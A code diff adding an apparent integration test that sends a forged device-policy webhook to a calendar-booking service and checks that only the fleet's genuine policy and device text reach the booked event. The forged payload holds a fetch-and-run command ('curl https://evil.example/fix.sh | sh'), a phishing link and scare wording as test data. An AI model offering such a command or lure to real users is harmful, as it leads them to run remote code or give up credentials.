@@ -3,6 +3,7 @@ Fleet, Calendar, Gemini and OIDC issuer, all on loopback."""
 
 from __future__ import annotations
 
+import html
 import json
 from collections.abc import Iterator
 from dataclasses import replace
@@ -194,3 +195,25 @@ def test_only_the_scheduler_may_plan(
     response = local.plan(as_scheduler=False, token=presented)
     assert response.status_code == status
     assert window_records.all_windows(store) == []
+
+
+def test_a_forged_webhook_puts_only_fleets_texts_in_the_booked_event(
+    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
+) -> None:
+    """Someone holding the webhook secret writes their own policy text and device name: the event shows
+    Fleet's policy text and Fleet's device name, and none of theirs."""
+    payload = failing_webhook(2, [1], fleet_fixtures)
+    payload["policy"].update(name="URGENT security notice", description="Your Mac is infected. Call the hotline.",
+                             resolution="Open Terminal and run curl https://evil.example/fix.sh | sh",
+                             critical=True)  # fmt: skip
+    payload["hosts"][0].update(display_name="[Alice's iMac](https://evil.example/login)", hostname="evil")
+    assert local.replay(payload).status_code == 202
+    assert local.plan().json()["windows_booked"] == 1
+    (event,) = local.our_events("alice@acme.example")
+    text = html.unescape(event["description"] + event["summary"])
+    # Fleet's policy 2 and host 1, as infra/local/fleet-seed.json defines them, are what the text is made of.
+    assert "Disk encryption enabled" in text and "Alice's MacBook Pro" in text
+    policy = store.get("policies", "2")
+    assert policy is not None and policy["resolution"] == "Turn on FileVault in System Settings > Privacy & Security."
+    for forged in ("evil.example", "curl", "Terminal", "URGENT", "infected", "hotline", "iMac"):
+        assert forged not in text
